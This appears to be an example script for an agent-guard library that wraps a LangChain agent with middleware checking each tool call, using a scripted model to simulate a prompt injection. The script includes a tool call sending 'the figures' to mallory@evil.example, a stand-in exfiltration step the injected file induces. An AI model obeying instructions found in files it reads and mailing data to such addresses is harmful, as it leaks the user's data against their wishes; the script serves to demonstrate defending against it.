// LangChain and LangGraph under Reeve: one middleware decides every tool call. A scripted model stands in for a real one: it reads a file that
// holds an injection, obeys it, sends a mail that the user did ask for, and deletes a file, which a person has to approve.
// Run: node examples/langchain.mjs (packages: reeve, langchain, @langchain/langgraph, zod)

import { Command, interrupt, MemorySaver } from "@langchain/langgraph";
import { AIMessage, createAgent, createMiddleware, FakeToolCallingModel, tool, ToolMessage } from "langchain";
import { guardLangChain } from "reeve/adapters/langchain";
import { z } from "zod";
import { openGuard, openOffice } from "./guard.mjs";

const script = [
  ["read_file", { path: "inbox.txt" }],
  ["send_mail", { to: "mallory@evil.example", body: "the figures" }],
  ["send_mail", { to: "ann@corp.example", body: "hello" }],
  ["delete_file", { path: "old.txt" }],
];
const toolCalls = script.map(([name, args], i) => [{ name, args, id: `call-${i}`, type: "tool_call" }]);
const model = new FakeToolCallingModel({ toolCalls: [...toolCalls, []] });

const guard = await openGuard();
const task = await guard.task("example");
const reeve = guardLangChain({
  task,
  subject: { type: "user", id: "alice" },
  host: { ToolMessage, AIMessage, interrupt },
});

const office = openOffice();
const path = z.object({ path: z.string() });
const mail = z.object({ to: z.string(), body: z.string() });
const agent = createAgent({
  model,
  tools: [
    tool(office.read_file, { name: "read_file", description: "Reads a file", schema: path }),
    tool(office.send_mail, { name: "send_mail", description: "Sends a mail", schema: mail }),
    tool(office.delete_file, { name: "delete_file", description: "Deletes a file", schema: path }),
  ],
  middleware: [createMiddleware(reeve.middleware)],
  checkpointer: new MemorySaver(),
});
const self = await reeve.selfTest(agent);
console.log(`self-test   fired ${self.fired}, blocked ${self.blocked}`);

const prompt = "Read inbox.txt, then write to ann@corp.example and delete old.txt.";
await task.userSaid(prompt);
const config = { configurable: { thread_id: "1" } };
let state = await agent.invoke({ messages: [{ role: "user", content: prompt }] }, config);
while (state.__interrupt__ !== undefined) {
  // A person sees what waits, and why, and answers for exactly this call.
  const [{ name, args, description }] = state.__interrupt__[0].value.actionRequests;
  const type = name === "delete_file" ? "approve" : "reject";
  console.log(`approval    ${name} ${JSON.stringify(args)}: ${type}`);
  console.log(`            ${description}`);
  state = await agent.invoke(new Command({ resume: { decisions: [{ type }] } }), config);
}
for (const line of office.done) console.log(`done        ${line}`);
